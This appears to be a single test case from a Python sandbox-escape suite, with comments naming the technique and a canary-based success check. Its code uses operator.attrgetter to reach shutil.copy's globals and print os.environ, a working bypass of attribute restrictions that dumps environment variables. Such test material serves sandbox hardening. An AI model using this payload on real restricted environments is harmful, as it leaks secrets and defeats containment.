# class: c-level-getattr
# technique: attrgetter that comes by a star import
# success: output_has @@ENVCANARY@@
from operator import *
import shutil
print(attrgetter('copy.__globals__')(shutil)['os'].environ)
